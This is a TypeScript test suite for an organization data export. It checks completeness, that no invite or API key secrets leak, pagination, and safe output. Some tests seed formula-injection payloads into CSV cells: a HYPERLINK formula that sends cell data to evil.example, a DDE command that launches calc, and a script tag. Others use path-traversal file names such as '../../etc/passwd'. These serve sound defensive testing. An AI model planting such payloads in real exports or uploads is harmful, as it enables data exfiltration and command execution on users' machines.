import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportedTables } from '../../../src/domain/organizations/export/tables.ts';
import { writeExport } from '../../../src/domain/organizations/export/write-export.ts';
import { inspectLogo } from '../../../src/domain/organizations/inspect-logo.ts';
import { setLogo } from '../../../src/domain/organizations/set-logo.ts';
import { addProduct } from '../../../src/domain/payments/products/add-product.ts';
import { createSecretKey } from '../../../src/domain/plugin/keys/create-secret-key.ts';
import { openKeys } from '../../../src/domain/plugin/keys/open-keys.ts';
import { record } from '../../../src/domain/record.ts';
import { mergeTicket } from '../../../src/domain/tickets/merge/merge-ticket.ts';
import { openFromCustomer } from '../../../src/domain/tickets/open-from-customer.ts';
import { openTicket } from '../../../src/domain/tickets/open-ticket.ts';
import { readArchive, readCsv } from '../../setup/archive.ts';
import { seedInvitation, seedMember, seedOrganization } from '../../setup/organization.ts';
import { seedPayment } from '../../setup/payments.ts';
import { png } from './images.ts';
import { useStage } from './setup.ts';

const stage = useStage();

async function exportOf(organizationId: string): Promise<Map<string, Buffer>> {
  const folder = await mkdtemp(join(tmpdir(), 'orgdesk-test-'));
  try {
    await writeExport(stage.context, organizationId, join(folder, 'export.zip'));
    return await readArchive(await readFile(join(folder, 'export.zip')));
  } finally {
    await rm(folder, { recursive: true });
  }
}

const jsonIn = (files: Map<string, Buffer>) => JSON.parse(files.get('organization.json')?.toString() ?? '');

describe('the export of an organization', () => {
  it('has everything twice, for programs and for people, and says what is what', async () => {
    const { context, database } = stage;
    const { id, owner, ...organization } = await seedOrganization(context, { name: 'Hafen & Söhne' });
    const invitation = await seedInvitation(
      context,
      { id, owner, ...organization },
      { email: 'cleo@harbour.example' },
    );
    await database.authorizedDomain.create({
      data: { organizationId: id, host: 'example.com', createdAt: context.now() },
    });
    await database.ticketSequence.create({ data: { organizationId: id, prefix: 'TKT', lastNumber: 41 } });
    await database.seatChange.create({
      data: {
        organizationId: id,
        fromQuantity: 5,
        toQuantity: 3,
        status: 'applied',
        requestedBy: owner.userId,
        prorationAt: context.now(),
        amountDue: -599,
        createdAt: context.now(),
        sentAt: context.now(),
        settledAt: context.now(),
      },
    });
    await database.billingFinding.create({
      data: {
        kind: 'price_differs',
        subject: 'sub_1',
        organizationId: id,
        detail: { seatPrice: 700 },
        foundAt: context.now(),
        seenAt: context.now(),
      },
    });
    const image = await inspectLogo(png(16, 12));
    await setLogo(context, owner, { organizationId: id, image, requestedAt: context.now() });
    const files = await exportOf(id);

    expect([...files.keys()].sort()).toEqual(
      [
        'README.txt',
        'logo.png',
        'organization.json',
        ...exportedTables.map(({ name }) => `${name}.csv`),
      ].sort(),
    );
    expect(files.get('logo.png')).toEqual(png(16, 12));
    expect(files.get('README.txt')?.toString()).toContain('Hafen & Söhne');
    expect(jsonIn(files)).toMatchObject({
      exported_at: context.now().toISOString(),
      organization: { id, name: 'Hafen & Söhne', seats_purchased: 5, subscription_status: 'active' },
      members: [
        { id: owner.memberId, user_id: owner.userId, email: owner.email, role: 'owner', removed_at: null },
      ],
      invitations: [{ id: invitation.id, email: 'cleo@harbour.example', status: 'pending', sends: 1 }],
      authorized_domains: [{ host: 'example.com', include_subdomains: false }],
      ticket_sequences: [{ prefix: 'TKT', last_number: 41 }],
      billing_findings: [{ kind: 'price_differs', subject: 'sub_1', detail: { seatPrice: 700 } }],
      seat_changes: [{ from_quantity: 5, to_quantity: 3, amount_due: -599 }],
      audit_trail: [{ action: 'organization.logo_set', actor_name: owner.name, before: null }],
    });
    expect(readCsv(files.get('members.csv'))).toMatchObject([
      {
        user_id: owner.userId,
        name: 'Olivia Owner',
        role: 'owner',
        joined_at: context.now().toISOString(),
        removed_at: '',
      },
    ]);
    expect(readCsv(files.get('authorized_domains.csv'))).toMatchObject([
      { host: 'example.com', include_subdomains: 'false' },
    ]);
    // A number of ours is a number, also below zero.
    expect(readCsv(files.get('seat_changes.csv'))).toMatchObject([{ amount_due: '-599' }]);
    expect(JSON.parse(readCsv(files.get('audit_trail.csv'))[0]?.after ?? '')).toMatchObject({
      contentType: 'image/png',
    });
  });

  it('has no secret of an invite in any form', async () => {
    const { context, database } = stage;
    const organization = await seedOrganization(context);
    const { id, token } = await seedInvitation(context, organization);
    const { tokenHash } = await database.invitation.findUniqueOrThrow({ where: { id } });
    const hash = Buffer.from(tokenHash);
    const all = Buffer.concat([...(await exportOf(organization.id)).values()]).toString('latin1');
    for (const secret of [
      token,
      hash.toString('latin1'),
      hash.toString('hex'),
      hash.toString('base64'),
      hash.toString('base64url'),
    ]) {
      expect(all).not.toContain(secret);
    }
    expect(all).not.toMatch(/hash|sealed/i);
  });

  it('has the keys of the plugin by name and last letters alone, and the products', async () => {
    const { context, database } = stage;
    const { id, owner } = await seedOrganization(context);
    const { publishable } = await openKeys(context, owner);
    const scopes = ['tickets', 'payments'];
    const { secret, id: keyId } = await createSecretKey(context, owner, { name: '=Shop', scopes });
    await addProduct(context, owner, { name: 'Kettle', price: '12.50', currency: 'gbp' });
    const files = await exportOf(id);
    expect(jsonIn(files)).toMatchObject({
      api_keys: [
        { kind: 'publishable', hint: publishable.key.slice(-4), scopes: '', ends_at: null },
        { kind: 'secret', name: '=Shop', hint: secret.slice(-4), scopes: 'tickets payments' },
      ],
      products: [{ name: 'Kettle', unit_amount: 1250, currency: 'gbp', active: true }],
    });
    const { secretHash } = await database.apiKey.findUniqueOrThrow({ where: { id: keyId } });
    const hash = Buffer.from(secretHash ?? []);
    const all = Buffer.concat([...files.values()]).toString('latin1');
    for (const hidden of [
      secret,
      publishable.key,
      ...(['latin1', 'hex', 'base64', 'base64url'] as const).map((form) => hash.toString(form)),
    ]) {
      expect(all).not.toContain(hidden);
    }
  });

  it('gives no cell to a spreadsheet that it would take for a formula, and loses nothing of what was written', async () => {
    const { context } = stage;
    const organization = await seedOrganization(context);
    const hostile = [
      '=1+1',
      '+44 20 7946 0000',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '=HYPERLINK("https://evil.example?"&A1,"click")',
      "=cmd|' /C calc'!A0",
      '＝1+1',
      '<!channel> <script>alert(1)</script>',
      'a "quoted", b\r\nc; d',
      'x;=1+1',
      'x\t=1+1',
      '\u2028\u202Eeman',
      `${'x'.repeat(3000)}!`,
      '👩‍💻 Zoë',
    ];
    for (const name of hostile) await seedMember(context, organization, { name });
    const files = await exportOf(organization.id);
    expect(jsonIn(files).members.map(({ name }: { name: string }) => name)).toEqual([
      'Olivia Owner',
      ...hostile,
    ]);
    const names = readCsv(files.get('members.csv')).map(({ name = '' }) => name);
    expect(names.slice(1).map((name) => name.replace(/^'/, ''))).toEqual(hostile);
    for (const cell of readCsv(files.get('members.csv')).flatMap((row) => Object.values(row))) {
      expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
    }
  });

  it('has every cell in quotes, so that no reader who parts lines otherwise begins a cell within one', async () => {
    const organization = await seedOrganization(stage.context);
    await seedMember(stage.context, organization, { name: 'x;=1+1' });
    const members = (await exportOf(organization.id)).get('members.csv')?.toString() ?? '';
    expect(members).toContain('"id","user_id"');
    expect(members).toContain(',"x;=1+1",');
  });

  it('fails as a whole, and nothing else does, where the database goes away in the middle', async () => {
    const { context, database } = stage;
    const { id } = await seedOrganization(context);
    await database.$executeRaw`ALTER TABLE members RENAME TO members_away`;
    try {
      let written: Promise<unknown> | undefined;
      await database.$transaction(async (transaction) => {
        // Of tickets the names of files are asked while the first table is written.
        await transaction.$executeRaw`LOCK TABLE tickets IN ACCESS EXCLUSIVE MODE`;
        written = exportOf(id).catch((error: unknown) => error);
        for (let waits = 0; waits < 20; ) {
          const [row] = await database.$queryRaw<[{ waits: boolean }]>`
            SELECT EXISTS (SELECT FROM pg_locks WHERE NOT granted AND relation = 'tickets'::regclass) AS waits`;
          if (row.waits) waits += 1;
        }
      });
      expect(await written).toBeInstanceOf(Error);
    } finally {
      await database.$executeRaw`ALTER TABLE members_away RENAME TO members`;
    }
  });

  it('comes in pages and has every row once, also of an organization that has written more than a page', async () => {
    const { context } = stage;
    const { id } = await seedOrganization(context);
    const other = await seedOrganization(context);
    const line = (organizationId: string, subject: string) =>
      ({ organizationId, by: 'The clock', action: 'invitation.expired', subject }) as const;
    const subjects = Array.from({ length: 2500 }, (_, index) => `line ${index}`);
    for (let from = 0; from < subjects.length; from += 500) {
      await record(
        context.database,
        context,
        subjects.slice(from, from + 500).map((subject) => line(id, subject)),
        [],
      );
    }
    await record(context.database, context, [line(other.id, 'of somebody else')], []);
    const files = await exportOf(id);
    expect(jsonIn(files).audit_trail.map(({ subject }: { subject: string }) => subject)).toEqual(subjects);
    expect(readCsv(files.get('audit_trail.csv')).map(({ subject }) => subject)).toEqual(subjects);
  });

  it('leaves no table of an organization out but those that only carry work along', async () => {
    const rows = await stage.database.$queryRaw<{ table: string }[]>`
      SELECT DISTINCT table_name::text AS table FROM information_schema.columns
      WHERE table_schema = 'public' AND column_name = 'organization_id'`;
    const left = rows
      .map(({ table }) => table)
      .filter((name) => !exportedTables.some(({ table }) => table === name));
    expect(left.sort()).toEqual([
      'logos',
      'organization_deletions',
      'plugin_requests',
      'seat_drafts',
      'thread_posts',
    ]);
    const ofTickets = await stage.database.$queryRaw<{ table: string }[]>`
      SELECT DISTINCT table_name::text AS table FROM information_schema.columns
      WHERE table_schema = 'public' AND column_name = 'ticket_id'`;
    for (const { table: name } of ofTickets.filter(({ table }) => table !== 'thread_posts')) {
      expect(exportedTables.map(({ table }) => table)).toContain(name);
    }
    const ofPayments = await stage.database.$queryRaw<{ table: string }[]>`
      SELECT DISTINCT table_name::text AS table FROM information_schema.columns
      WHERE table_schema = 'public' AND column_name = 'payment_id'`;
    for (const { table: name } of ofPayments) {
      expect(exportedTables.map(({ table }) => table)).toContain(name);
    }
  });

  it('has payments with their refunds and the account they went to, all of them and nobody else’s', async () => {
    const { context, database } = stage;
    const [mine, theirs] = [await seedOrganization(context), await seedOrganization(context)];
    const ids: string[] = [];
    for (const { id } of [mine, theirs]) {
      await database.paymentAccount.create({
        data: {
          organizationId: id,
          accountId: `acct_${id}`,
          readAt: context.now(),
          createdAt: context.now(),
        },
      });
      for (let index = 0; index < 105; index++) {
        const paymentId = await seedPayment(context, id, { reference: '=1+1' });
        await database.refund.create({
          data: { id: context.newId(), paymentId, amount: index + 1, createdAt: context.now() },
        });
        if (id === mine.id) ids.push(paymentId);
      }
    }
    const files = await exportOf(mine.id);
    const { payment_account, payments, refunds } = jsonIn(files);
    expect(payment_account).toMatchObject([{ account_id: `acct_${mine.id}`, charges_enabled: false }]);
    expect(payments.map(({ id }: { id: string }) => id)).toEqual(ids);
    expect(payments[0]).toMatchObject({ amount: 2598, currency: 'gbp', status: 'paid', reference: '=1+1' });
    expect(refunds.map(({ payment_id }: { payment_id: string }) => payment_id)).toEqual(ids);
    expect(readCsv(files.get('payments.csv'))[0]?.reference).toBe("'=1+1");
    const all = Buffer.concat([...files.values()]).toString('latin1');
    expect(all).not.toMatch(/request_key|fingerprint|checkout_url/);
    await database.organization.delete({ where: { id: mine.id } });
    expect(await database.refund.count({ where: { paymentId: { in: ids } } })).toBe(0);
    expect(await database.payment.count()).toBeGreaterThanOrEqual(105);
  });

  it('has tickets with what was said and noted in them, and their files under names that lead nowhere else', async () => {
    const { context } = stage;
    const [mine, theirs] = [await seedOrganization(context), await seedOrganization(context)];
    const names = [
      'photo.png',
      '../../etc/passwd',
      'C:\\\\x\\\\y.pdf',
      '...',
      '/root',
      'a\r\nb',
      'Übersicht 🛟.pdf',
    ];
    const attachments = names.map((name, index) => ({
      name,
      contentType: 'application/pdf',
      bytes: Buffer.from(`content ${index}`),
    }));
    const requester = { name: 'Cleo', email: 'cleo@shop.example', proven: true };
    const words = { requester, title: '=1+1', text: '+ a customer', source: 'email' as const };
    const opened = await openFromCustomer(context, {
      ...words,
      organizationId: mine.id,
      teamId: mine.teamId,
      attachments,
    });
    await openFromCustomer(context, {
      ...words,
      organizationId: theirs.id,
      teamId: theirs.teamId,
      attachments,
    });
    const ticketId = opened?.id ?? '';
    const twice = await openFromCustomer(context, {
      ...words,
      organizationId: mine.id,
      teamId: mine.teamId,
    });
    await mergeTicket(context, mine.owner, { ticketId: twice?.id ?? '', into: 'TKT-001' });
    const note = { ticketId, memberId: mine.owner.memberId, text: 'Among us', createdAt: context.now() };
    await context.database.ticketNote.create({ data: note });
    const files = await exportOf(mine.id);
    expect(jsonIn(files)).toMatchObject({
      customers: [{ name: 'Cleo', email: 'cleo@shop.example' }],
      tickets: [
        {
          id: ticketId,
          prefix: 'TKT',
          number: 1,
          title: '=1+1',
          status: 'open',
          requester_name: 'Cleo',
          merged_into_id: null,
        },
        { id: twice?.id, number: 2, status: 'closed', source: 'email', merged_into_id: ticketId },
      ],
      ticket_messages: [
        { ticket_id: ticketId, text: '+ a customer', member_id: null },
        { ticket_id: twice?.id, text: '+ a customer' },
      ],
      ticket_notes: [{ ticket_id: ticketId, text: 'Among us' }],
    });
    expect(readCsv(files.get('tickets.csv'))[0]?.title).toBe("'=1+1");
    const listed = jsonIn(files).ticket_attachments as { id: string; name: string }[];
    expect(listed.map(({ name }) => name)).toEqual(names);
    const kept = [...files.keys()].filter((name) => name.startsWith('attachments/'));
    expect(kept).toHaveLength(names.length);
    for (const [index, { id }] of listed.entries()) {
      const name = kept.find((each) => each.startsWith(`attachments/${id}-`)) ?? '';
      expect(name).toMatch(/^attachments\/[\p{L}\p{N}_ -]+(\.[\p{L}\p{N}_ -]+)*$/u);
      expect(files.get(name)?.toString()).toBe(`content ${index}`);
    }
  });

  it('has the words of more tickets than are asked for at a time, each once', async () => {
    const { context } = stage;
    const { id, owner } = await seedOrganization(context);
    for (let index = 0; index < 230; index++) {
      await openTicket(context, owner, { title: `Ticket ${index}`, description: `Text ${index}` });
    }
    const texts = jsonIn(await exportOf(id)).ticket_messages.map(({ text }: { text: string }) => text);
    expect(texts).toEqual(Array.from({ length: 230 }, (_, index) => `Text ${index}`));
  });
});
